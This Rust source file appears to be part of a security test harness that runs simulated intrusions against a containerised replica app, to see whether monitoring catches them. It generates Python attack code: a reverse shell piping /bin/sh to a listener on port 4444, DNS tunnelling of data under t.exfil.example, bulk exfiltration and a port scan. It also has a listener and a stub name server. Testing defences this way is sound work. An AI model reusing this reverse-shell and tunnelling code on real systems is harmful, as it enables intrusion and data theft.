//! An intruder in a replica of the shop, and what waits for it outside.
//!
//! Each attack is a piece of Python that goes through the hole in the app, so its processes descend from the app and
//! its connections come from the app: nothing tells it apart but what it does. All of it is bounded, and stays within
//! containers and documentation addresses.

use std::{
    io::{Read as _, Write as _},
    net::{Ipv4Addr, TcpListener, UdpSocket},
    sync::{
        Arc, Mutex,
        atomic::{AtomicBool, AtomicU64, Ordering},
    },
    thread::{self, JoinHandle},
    time::{Duration, SystemTime},
};

use serde_json::Value;

use crate::{
    error::{HarnessError, io},
    outside::Outside,
};

/// The port the intruder's listener waits on.
pub const SHELL_PORT: u16 = 4444;

/// The domain that the tunnel's names are under.
pub const TUNNEL_DOMAIN: &str = "t.exfil.example";

/// How much the bulk exfiltration sends.
pub const EXFILTRATION_BYTES: u64 = 50 * 1024 * 1024;

/// What every attack begins with: a way to tell how it fares, on the container's own standard output.
///
/// An attack stops by itself: after a while, or soon after it is refused.
const PREAMBLE: &str = "\
import errno, json, os, socket, subprocess, time
def tell(attack, ok, cause=''):
    print(json.dumps({'attack': attack, 'unix_ms': int(time.time() * 1000), 'ok': ok, 'cause': cause}), flush=True)
def attempts(attack, times, pause, attempt):
    refused = 0
    for number in range(times):
        try:
            attempt(number)
            ok, cause = True, ''
        except OSError as error:
            ok, cause = False, errno.errorcode.get(error.errno, str(error))
        refused = 0 if ok else refused + 1
        tell(attack, ok, cause)
        if refused == 3:
            break
        time.sleep(pause)
";

/// An attack, by what it does.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Attack {
    /// Fifty megabytes to the object store that the app always used, in the app's own way.
    BulkExfiltration,
    /// Connections to two hundred ports of each sibling.
    PortScan,
    /// Questions whose names carry data, through the resolver that the app always used.
    DnsTunnel,
    /// A shell with its streams on a connection to a peer that was never seen; tries again when it is cut off.
    ReverseShell,
}

impl Attack {
    /// Its name in its reports.
    pub const fn name(self) -> &'static str {
        match self {
            Self::BulkExfiltration => "bulk exfiltration",
            Self::PortScan => "port scan",
            Self::DnsTunnel => "DNS tunnel",
            Self::ReverseShell => "reverse shell",
        }
    }

    /// Its code. `peer` is the intruder's own machine; `siblings` are what a scan looks at.
    pub fn code(self, peer: Ipv4Addr, siblings: &[Ipv4Addr]) -> String {
        let name = self.name();
        let siblings: Vec<_> = siblings.iter().map(|ip| format!("'{ip}'")).collect();
        let siblings = siblings.join(", ");
        let part = EXFILTRATION_BYTES / 25;
        let body = match self {
            Self::BulkExfiltration => format!(
                "import http.client\n\
                 def send(number):\n\
                 \x20   store = http.client.HTTPConnection('store', 9000, timeout=2)\n\
                 \x20   store.request('PUT', '/backup-%d' % number, os.urandom({part}))\n\
                 \x20   store.getresponse().read()\n\
                 \x20   store.close()\n\
                 attempts('{name}', 40, 0.4, send)\n"
            ),
            Self::PortScan => format!(
                "def knock(ip, port):\n\
                 \x20   with socket.socket() as s:\n\
                 \x20       s.settimeout(0.5)\n\
                 \x20       try:\n\
                 \x20           s.connect((ip, port))\n\
                 \x20       except ConnectionRefusedError:\n\
                 \x20           pass\n\
                 def sweep(number):\n\
                 \x20   ports = range(1, 201) if number == 0 else [201 + number]\n\
                 \x20   for ip in [{siblings}]:\n\
                 \x20       for port in ports:\n\
                 \x20           knock(ip, port)\n\
                 attempts('{name}', 20, 1, sweep)\n"
            ),
            Self::DnsTunnel => format!(
                "def ask(number):\n\
                 \x20   name = '%s.%s.{TUNNEL_DOMAIN}' % (os.urandom(28).hex(), os.urandom(16).hex())\n\
                 \x20   socket.getaddrinfo(name, 80, socket.AF_INET)\n\
                 attempts('{name}', 300, 0.04, ask)\n"
            ),
            Self::ReverseShell => format!(
                "deadline = time.monotonic() + 150\n\
                 told = None\n\
                 while time.monotonic() < deadline:\n\
                 \x20   try:\n\
                 \x20       with socket.create_connection(('{peer}', {SHELL_PORT}), 1) as s:\n\
                 \x20           s.settimeout(None)\n\
                 \x20           tell('{name}', True)\n\
                 \x20           told = None\n\
                 \x20           subprocess.run(['/bin/sh'], stdin=s, stdout=s, stderr=s, timeout=8)\n\
                 \x20   except subprocess.TimeoutExpired:\n\
                 \x20       pass\n\
                 \x20   except OSError as error:\n\
                 \x20       cause = errno.errorcode.get(error.errno, str(error))\n\
                 \x20       if cause != told:\n\
                 \x20           tell('{name}', False, cause)\n\
                 \x20       told = cause\n\
                 \x20   time.sleep(0.2)\n"
            ),
        };
        format!("{PREAMBLE}{body}")
    }
}

/// What an attack said about one of its attempts.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attempt {
    /// When, since the epoch.
    pub unix_ms: u64,
    /// Whether it got through.
    pub ok: bool,
    /// The error that the attack got; empty when it got through.
    pub cause: String,
}

/// What an attack said about its attempts, from the standard output of its container.
pub fn attempts(attack: Attack, output: &str) -> Vec<Attempt> {
    output
        .lines()
        .filter_map(|line| serde_json::from_str::<Value>(line).ok())
        .filter(|line| line["attack"] == attack.name())
        .filter_map(|line| {
            Some(Attempt {
                unix_ms: line["unix_ms"].as_u64()?,
                ok: line["ok"].as_bool()?,
                cause: line["cause"].as_str()?.to_owned(),
            })
        })
        .collect()
}

/// Why a lock is never poisoned here.
const UNPOISONED: &str = "no thread panics with the lock in hand";

/// Takes the reverse shell's connection and sends it harmless commands, one a second.
#[derive(Debug)]
pub struct Listener {
    state: Arc<ListenerState>,
    thread: Option<JoinHandle<()>>,
}

#[derive(Debug, Default)]
struct ListenerState {
    closing: AtomicBool,
    arrivals: Mutex<Vec<SystemTime>>,
    answers: Mutex<Vec<(SystemTime, String)>>,
}

impl Listener {
    /// Waits at a peer outside.
    pub fn open(outside: &Outside, peer: Ipv4Addr) -> Result<Self, HarnessError> {
        let listener = outside
            .netns()
            .enter(move || TcpListener::bind((peer, SHELL_PORT)))?
            .map_err(io(format!("cannot listen at {peer}")))?;
        listener.set_nonblocking(true).map_err(io("cannot listen without blocking"))?;
        let state = Arc::new(ListenerState::default());
        let shared = Arc::clone(&state);
        let thread = thread::spawn(move || {
            while !shared.closing.load(Ordering::Relaxed) {
                if let Ok((stream, _)) = listener.accept() {
                    shared.arrivals.lock().expect(UNPOISONED).push(SystemTime::now());
                    // A shell that was cut off stays silent for long; the next one must not wait for it.
                    let shared = Arc::clone(&shared);
                    thread::spawn(move || converse(stream, &shared));
                }
                thread::sleep(Duration::from_millis(10));
            }
        });
        Ok(Self { state, thread: Some(thread) })
    }

    /// When connections reached it.
    pub fn arrivals(&self) -> Vec<SystemTime> {
        self.state.arrivals.lock().expect(UNPOISONED).clone()
    }

    /// What shells answered, and when.
    pub fn answers(&self) -> Vec<(SystemTime, String)> {
        self.state.answers.lock().expect(UNPOISONED).clone()
    }
}

impl Drop for Listener {
    fn drop(&mut self) {
        self.state.closing.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            // It panics only if this process is already lost.
            let _ = thread.join();
        }
    }
}

/// Asks the shell who it is and what it sees, until it is cut off.
fn converse(mut stream: std::net::TcpStream, state: &ListenerState) {
    const QUESTIONS: [&str; 3] = ["id\n", "ls /app\n", "uname -r\n"];
    let prepared = stream
        .set_nonblocking(false)
        .and_then(|()| stream.set_read_timeout(Some(Duration::from_millis(500))))
        .and_then(|()| stream.set_write_timeout(Some(Duration::from_millis(500))));
    if prepared.is_err() {
        return;
    }
    for question in QUESTIONS.iter().cycle().take(120) {
        if state.closing.load(Ordering::Relaxed) || stream.write_all(question.as_bytes()).is_err() {
            return;
        }
        let mut answer = [0; 4096];
        match stream.read(&mut answer) {
            Ok(0) => return,
            Ok(length) => {
                let text = String::from_utf8_lossy(&answer[..length]).trim().to_owned();
                state.answers.lock().expect(UNPOISONED).push((SystemTime::now(), text));
            }
            // Silence: the packets are dropped. Go on asking, so that a lease's end is seen as well.
            Err(error)
                if matches!(
                    error.kind(),
                    std::io::ErrorKind::WouldBlock | std::io::ErrorKind::TimedOut
                ) => {}
            Err(_) => return,
        }
        thread::sleep(Duration::from_millis(500));
    }
}

/// The name server behind the tunnel's domain: answers every question and counts those of the tunnel.
#[derive(Debug)]
pub struct NameServer {
    closing: Arc<AtomicBool>,
    tunnelled: Arc<AtomicU64>,
    thread: Option<JoinHandle<()>>,
}

impl NameServer {
    /// Answers at a peer outside.
    pub fn open(outside: &Outside, peer: Ipv4Addr) -> Result<Self, HarnessError> {
        let socket = outside
            .netns()
            .enter(move || UdpSocket::bind((peer, 53)))?
            .map_err(io(format!("cannot answer at {peer}")))?;
        socket
            .set_read_timeout(Some(Duration::from_millis(100)))
            .map_err(io("cannot bound a read"))?;
        let closing = Arc::new(AtomicBool::new(false));
        let tunnelled = Arc::new(AtomicU64::new(0));
        let (stop, count) = (Arc::clone(&closing), Arc::clone(&tunnelled));
        let thread = thread::spawn(move || {
            let mut question = [0; 512];
            while !stop.load(Ordering::Relaxed) {
                let Ok((length, from)) = socket.recv_from(&mut question) else { continue };
                let Some(reply) = answer(&question[..length], peer) else { continue };
                if reply.tunnel {
                    count.fetch_add(1, Ordering::Relaxed);
                }
                // Whoever asked may be gone: names are asked again.
                let _ = socket.send_to(&reply.bytes, from);
            }
        });
        Ok(Self { closing, tunnelled, thread: Some(thread) })
    }

    /// How many questions of the tunnel got out.
    pub fn tunnelled(&self) -> u64 {
        self.tunnelled.load(Ordering::Relaxed)
    }
}

impl Drop for NameServer {
    fn drop(&mut self) {
        self.closing.store(true, Ordering::Relaxed);
        if let Some(thread) = self.thread.take() {
            let _ = thread.join();
        }
    }
}

struct Reply {
    bytes: Vec<u8>,
    tunnel: bool,
}

/// Answers a question for the tunnel's domain with an address, and any other with "no such name".
fn answer(question: &[u8], address: Ipv4Addr) -> Option<Reply> {
    const HEADER: usize = 12;
    let mut end = HEADER;
    let mut name = String::new();
    loop {
        let length = usize::from(*question.get(end)?);
        end += 1;
        if length == 0 {
            break;
        }
        name.push_str(&String::from_utf8_lossy(question.get(end..end + length)?));
        name.push('.');
        end += length;
    }
    let asked = question.get(HEADER..end + 4)?;
    let is_address = question.get(end..end + 2)? == [0, 1];
    let tunnel = name.trim_end_matches('.').to_ascii_lowercase().ends_with(TUNNEL_DOMAIN);
    let mut bytes = question[..2].to_vec();
    // A response with authority; code 3 says that there is no such name.
    bytes.extend([
        0x84,
        if tunnel { 0 } else { 3 },
        0,
        1,
        0,
        u8::from(tunnel && is_address),
        0,
        0,
        0,
        0,
    ]);
    bytes.extend(asked);
    if tunnel && is_address {
        // The name of the question, type A, class IN, one second, four bytes.
        bytes.extend([0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0, 1, 0, 4]);
        bytes.extend(address.octets());
    }
    Some(Reply { bytes, tunnel })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_name_server_answers_its_domain_and_no_other() {
        let ask = |name: &str| {
            let mut question = vec![7, 7, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
            for label in name.split('.') {
                question.push(label.len() as u8);
                question.extend(label.bytes());
            }
            question.extend([0, 0, 1, 0, 1]);
            answer(&question, Ipv4Addr::new(203, 0, 113, 9)).unwrap()
        };
        let inside = ask("abc.T.exfil.example");
        assert!(inside.tunnel);
        assert_eq!(inside.bytes[..4], [7, 7, 0x84, 0]);
        assert!(inside.bytes.ends_with(&[203, 0, 113, 9]));
        let other = ask("example.net");
        assert!(!other.tunnel);
        assert_eq!(other.bytes[3], 3);
    }

    #[test]
    fn a_cut_off_question_gets_no_answer() {
        assert!(answer(&[0; 12], Ipv4Addr::LOCALHOST).is_none());
        assert!(
            answer(&[0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 60, b'a'], Ipv4Addr::LOCALHOST).is_none()
        );
    }
}
